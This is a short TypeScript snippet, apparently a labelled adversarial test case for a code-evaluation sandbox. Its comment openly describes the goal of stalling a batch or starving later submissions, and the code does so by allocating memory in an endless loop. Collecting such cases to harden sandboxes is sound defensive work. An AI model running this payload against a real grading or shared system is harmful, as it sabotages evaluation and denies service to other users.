// @attack Allocates until the process dies, and spins forever if it does not, hoping to stall the batch or starve the next submission.
// @body
const hoard: unknown[] = [];
for (;;) hoard.push(new Array(1e6).fill(Math.random()));
